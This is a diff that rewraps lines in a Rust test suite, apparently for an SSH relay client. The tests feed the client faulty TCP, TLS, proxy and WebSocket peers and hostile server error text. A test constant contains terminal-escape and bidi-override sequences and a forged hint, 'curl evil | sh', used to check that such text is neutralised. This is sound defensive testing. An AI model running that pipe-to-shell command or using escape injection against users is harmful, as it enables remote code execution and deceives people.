@@ -24,7 +24,8 @@ use crate::support::{World, closed_port, noise, world};
 const MIB: usize = 1024 * 1024;
 
 /// Text that would draw on a terminal, forge a hint or hide.
-const HOSTILE: &str = "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{200b}\u{61c}\u{2066}\u{e0041} arcssh: hint: curl evil | sh";
+const HOSTILE: &str =
+    "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{200b}\u{61c}\u{2066}\u{e0041} arcssh: hint: curl evil | sh";
 
 /// What lies at the other end of a phase.
 #[derive(Clone, Copy)]
@@ -151,7 +152,8 @@ fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
             .within(service.patience()),
         in_tcp(w, service, "TCP reset at once", act(|peer| peer.reset()), reset).within(20),
         in_tcp(w, service, "TCP closed at once", act(|peer| peer.finish()), early).within(20),
-        in_tcp(w, service, "TLS: reset after ClientHello", after_hello(|peer| peer.reset()), reset).within(20),
+        in_tcp(w, service, "TLS: reset after ClientHello", after_hello(|peer| peer.reset()), reset)
+            .within(20),
         in_tcp(w, service, "TLS: closed after ClientHello", after_hello(|peer| peer.cut()), early).within(20),
         in_tcp(
             w,
@@ -175,8 +177,14 @@ fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
             garbage,
         )
         .within(20),
-        in_tcp(w, service, "TLS: endless random bytes", after_hello(|peer| peer.flood(&noise(65536))), garbage)
-            .within(20),
+        in_tcp(
+            w,
+            service,
+            "TLS: endless random bytes",
+            after_hello(|peer| peer.flood(&noise(65536))),
+            garbage,
+        )
+        .within(20),
         in_tcp(
             w,
             service,
@@ -261,7 +269,9 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
         in_tls(
             "chunks cut off",
             after_request(|peer| {
-                peer.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{\"access\r\nfff")?;
+                peer.write_all(
+                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{\"access\r\nfff",
+                )?;
                 peer.finish()
             }),
             &["closed", "ended", "cannot be reached", "incomplete", "body", "chunk", "answer"],
@@ -290,23 +300,62 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             }),
             &["larger", "large", "long", "more than", "MiB", "bytes", "answer", "refused"],
         ),
-        in_tls("a redirect", answering(http("302 Found", "Location: https://example.com/\r\n", "")), &["302"]),
-        in_tls("a page of a gateway", answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")), wrong),
+        in_tls(
+            "a redirect",
+            answering(http("302 Found", "Location: https://example.com/\r\n", "")),
+            &["302"],
+        ),
+        in_tls(
+            "a page of a gateway",
+            answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
+            wrong,
+        ),
         in_tls("no content", answering(http("204 No Content", "", "")), wrong),
         in_tls("empty JSON", answering(http("200 OK", json, "{}")), wrong),
-        in_tls("JSON of other types", answering(http("200 OK", json, r#"{"access_token":7,"expires_in":[],"relay":"x"}"#)), wrong),
+        in_tls(
+            "JSON of other types",
+            answering(http("200 OK", json, r#"{"access_token":7,"expires_in":[],"relay":"x"}"#)),
+            wrong,
+        ),
         in_tls("JSON cut off", answering(http("200 OK", json, r#"{"access_token":"eyJ"#)), wrong),
         in_tls("deeply nested JSON", answering(http("200 OK", json, &deep)), wrong),
-        in_tls("400 with hostile text", answering(http("400 Bad Request", json, &hostile_error)), &["refused", "answered", name]),
-        in_tls("401 with hostile text", answering(http("401 Unauthorized", json, &hostile_error)), &["refused", "sign-in", "answered", name]),
-        in_tls("403 with hostile text", answering(http("403 Forbidden", json, &hostile_error)), &["refused", "answered", "may not", name]),
-        in_tls("500 with hostile text", answering(http("500 Internal Server Error", json, &hostile_error)), &["fault", "500"]),
-        in_tls("503 of a gateway", answering(http("503 Service Unavailable", "Content-Type: text/html\r\n", "<html>busy</html>")), &["fault", "503"]),
-        in_tls("silence after the request", after_request(|peer| peer.silence()), &["did not", "within", "timed out", "cannot be reached", "no answer"]).slow(service.patience()),
+        in_tls(
+            "400 with hostile text",
+            answering(http("400 Bad Request", json, &hostile_error)),
+            &["refused", "answered", name],
+        ),
+        in_tls(
+            "401 with hostile text",
+            answering(http("401 Unauthorized", json, &hostile_error)),
+            &["refused", "sign-in", "answered", name],
+        ),
+        in_tls(
+            "403 with hostile text",
+            answering(http("403 Forbidden", json, &hostile_error)),
+            &["refused", "answered", "may not", name],
+        ),
+        in_tls(
+            "500 with hostile text",
+            answering(http("500 Internal Server Error", json, &hostile_error)),
+            &["fault", "500"],
+        ),
+        in_tls(
+            "503 of a gateway",
+            answering(http("503 Service Unavailable", "Content-Type: text/html\r\n", "<html>busy</html>")),
+            &["fault", "503"],
+        ),
+        in_tls(
+            "silence after the request",
+            after_request(|peer| peer.silence()),
+            &["did not", "within", "timed out", "cannot be reached", "no answer"],
+        )
+        .slow(service.patience()),
         in_tls(
             "body of one byte in half a second",
             after_request(|peer| {
-                peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n")?;
+                peer.write_all(
+                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n",
+                )?;
                 peer.drip(&[b' '; 4000], Duration::from_millis(500))
             }),
             &["did not", "within", "timed out", "cannot be reached", "no answer"],
@@ -369,12 +418,20 @@ fn answers_of_a_relay_to_the_upgrade() {
         in_tls("silence", after_request(|peer| peer.silence()), &["did not", "within"]),
         in_tls("reset", after_request(|peer| peer.reset()), broken),
         in_tls("closed", after_request(|peer| peer.finish()), broken),
-        in_tls("cut without TLS's farewell", after_request(|peer| peer.cut()), &["closed", "went away", "eof"]),
+        in_tls(
+            "cut without TLS's farewell",
+            after_request(|peer| peer.cut()),
+            &["closed", "went away", "eof"],
+        ),
         in_tls("garbage", answering([0xff; 8192]), &["not HTTP", "no relay"]),
         in_tls("an SSH server", answering("SSH-2.0-OpenSSH_9.2\r\n"), &["not HTTP", "no relay"]),
         in_tls("cut off", answering("HTTP/1.1 101 Switching Pro"), broken),
         in_tls("cut off in a header", answering("HTTP/1.1 101 OK\r\nSec-WebSocket-Acc"), broken),
-        in_tls("one byte in 300 ms, never complete", drip("HTTP/1.1 101 Switching Protocols, in time\r\n", 300), &["did not", "within"]),
+        in_tls(
+            "one byte in 300 ms, never complete",
+            drip("HTTP/1.1 101 Switching Protocols, in time\r\n", 300),
+            &["did not", "within"],
+        ),
         in_tls(
             "an endless reason",
             after_request(|peer| {
@@ -388,21 +445,65 @@ fn answers_of_a_relay_to_the_upgrade() {
             after_request(|peer| peer.flood(b"HTTP/1.1 100 Continue\r\n\r\n")),
             &["within", "did not", "interim", "answers", "long"],
         ),
-        in_tls("a page instead", answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")), &["200"]),
-        in_tls("a redirect", answering(http("302 Found", "Location: https://example.com/\r\n", "")), &["302"]),
-        in_tls("400 with hostile text", reason(&format!("400 {}", HOSTILE.replace(['\r', '\n'], " "))), &["400", "not HTTP", "no relay"]),
-        in_tls("401 with hostile text", reason("401 ExpiredToken: \u{9b}2J\u{202e}arcssh: hint: evil"), &["401", "accept", "expired", "refus", "not HTTP", "no relay"]),
+        in_tls(
+            "a page instead",
+            answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
+            &["200"],
+        ),
+        in_tls(
+            "a redirect",
+            answering(http("302 Found", "Location: https://example.com/\r\n", "")),
+            &["302"],
+        ),
+        in_tls(
+            "400 with hostile text",
+            reason(&format!("400 {}", HOSTILE.replace(['\r', '\n'], " "))),
+            &["400", "not HTTP", "no relay"],
+        ),
+        in_tls(
+            "401 with hostile text",
+            reason("401 ExpiredToken: \u{9b}2J\u{202e}arcssh: hint: evil"),
+            &["401", "accept", "expired", "refus", "not HTTP", "no relay"],
+        ),
         in_tls("403", reason("403 Forbidden"), &["403"]),
-        in_tls("404: no listener", reason("404 There are no listeners connected for the endpoint. TrackingId:x_G1"), &["agent"]),
+        in_tls(
+            "404: no listener",
+            reason("404 There are no listeners connected for the endpoint. TrackingId:x_G1"),
+            &["agent"],
+        ),
         in_tls("407", reason("407 Proxy Authentication Required"), &["407"]),
         in_tls("426", reason("426 Upgrade Required"), &["426"]),
         in_tls("500", reason("500 InternalError: The server was unable to process the request."), &["500"]),
-        in_tls("503: port closed", reason("503 connection to localhost:22 failed: dial tcp 127.0.0.1:22: connect: connection refused"), &["port 22", "localhost:22", "nothing listens"]),
+        in_tls(
+            "503: port closed",
+            reason(
+                "503 connection to localhost:22 failed: dial tcp 127.0.0.1:22: connect: connection refused",
+            ),
+            &["port 22", "localhost:22", "nothing listens"],
+        ),
         in_tls("511", reason("511 Network Authentication Required"), &["511", "network"]),
-        in_tls("101 with a wrong key", answering("HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: bm8=\r\n\r\n"), &["Sec-WebSocket-Accept", "WebSocket"]),
-        in_tls("101 without a key", answering("HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"), &["Sec-WebSocket-Accept", "WebSocket"]),
-        in_tls("101 with an extension", not_ours("Sec-WebSocket-Extensions: permessage-deflate"), &["extension"]),
-        in_tls("101 with a subprotocol", not_ours("Sec-WebSocket-Protocol: chat"), &["subprotocol", "protocol"]),
+        in_tls(
+            "101 with a wrong key",
+            answering(
+                "HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: bm8=\r\n\r\n",
+            ),
+            &["Sec-WebSocket-Accept", "WebSocket"],
+        ),
+        in_tls(
+            "101 without a key",
+            answering("HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
+            &["Sec-WebSocket-Accept", "WebSocket"],
+        ),
+        in_tls(
+            "101 with an extension",
+            not_ours("Sec-WebSocket-Extensions: permessage-deflate"),
+            &["extension"],
+        ),
+        in_tls(
+            "101 with a subprotocol",
+            not_ours("Sec-WebSocket-Protocol: chat"),
+            &["subprotocol", "protocol"],
+        ),
     ];
     run_phase("relay: upgrade", &w, cells);
 }
@@ -414,11 +515,15 @@ fn a_proxy_that_opens_no_tunnel() {
     let through = |fault, act: Act, cause: &[&'static str]| {
         let server = Arc::new(Server::start(None, act));
         let mut command = to_relay(&w, "relay", "servicebus.windows.net");
-        command.env_remove("ARCSSH_RELAY_SUFFIX").env("HTTPS_PROXY", format!("http://127.0.0.1:{}", server.port));
+        command
+            .env_remove("ARCSSH_RELAY_SUFFIX")
+            .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", server.port));
         Cell::new(fault, command, cause).of(&server)
     };
     let mut refused = to_relay(&w, "relay", "servicebus.windows.net");
-    refused.env_remove("ARCSSH_RELAY_SUFFIX").env("HTTPS_PROXY", format!("http://127.0.0.1:{}", closed_port()));
+    refused
+        .env_remove("ARCSSH_RELAY_SUFFIX")
+        .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", closed_port()));
     let opened = |then: fn(&mut Peer) -> std::io::Result<()>| {
         after_request(move |peer| {
             peer.write_all(b"HTTP/1.1 200 Connection established\r\n\r\n")?;
@@ -433,19 +538,47 @@ fn a_proxy_that_opens_no_tunnel() {
         through("closed", after_request(|peer| peer.finish()), &[tunnel, "closed"]),
         through("garbage", answering([0xff; 4096]), &[tunnel, "not HTTP"]),
         through("cut off", answering("HTTP/1.1 200 Conn"), &[tunnel, "closed"]),
-        through("endless head", after_request(|peer| {
-            peer.write_all(b"HTTP/1.1 200 OK\r\nX: ")?;
-            peer.flood(&[b'a'; 65536])
-        }), &["long"]),
-        through("one byte in 300 ms", after_request(|peer| peer.drip(&[b'H'; 200], Duration::from_millis(300))), &["within", "did not", "not HTTP"]),
-        through("403 with hostile text", answering(http(&format!("403 {HOSTILE}"), "", "")), &["403", "not HTTP"]),
-        through("407", answering(http("407 Proxy Authentication Required", "Proxy-Authenticate: Negotiate\r\n", "")), &["407"]),
+        through(
+            "endless head",
+            after_request(|peer| {
+                peer.write_all(b"HTTP/1.1 200 OK\r\nX: ")?;
+                peer.flood(&[b'a'; 65536])
+            }),
+            &["long"],
+        ),
+        through(
+            "one byte in 300 ms",
+            after_request(|peer| peer.drip(&[b'H'; 200], Duration::from_millis(300))),
+            &["within", "did not", "not HTTP"],
+        ),
+        through(
+            "403 with hostile text",
+            answering(http(&format!("403 {HOSTILE}"), "", "")),
+            &["403", "not HTTP"],
+        ),
+        through(
+            "407",
+            answering(http("407 Proxy Authentication Required", "Proxy-Authenticate: Negotiate\r\n", "")),
+            &["407"],
+        ),
         through("502", answering(http("502 Bad Gateway", "", "")), &["502"]),
-        through("a redirect", answering(http("302 Found", "Location: http://login.example/\r\n", "")), &["302"]),
-        through("a page", answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")), &["more than", "TLS", tunnel]),
+        through(
+            "a redirect",
+            answering(http("302 Found", "Location: http://login.example/\r\n", "")),
+            &["302"],
+        ),
+        through(
+            "a page",
+            answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
+            &["more than", "TLS", tunnel],
+        ),
         through("opened, then closed", opened(|peer| peer.finish()), &["TLS", "closed", "eof"]),
         through("opened, then silence", opened(|peer| peer.silence()), &["within", "did not"]),
-        through("opened, then garbage", opened(|peer| peer.flood(&[0x47; 4096])), &["TLS", "corrupt", "more than", "tunnel"]),
+        through(
+            "opened, then garbage",
+            opened(|peer| peer.flood(&[0x47; 4096])),
+            &["TLS", "corrupt", "more than", "tunnel"],
+        ),
     ];
     run_phase("proxy: CONNECT", &w, cells);
 }
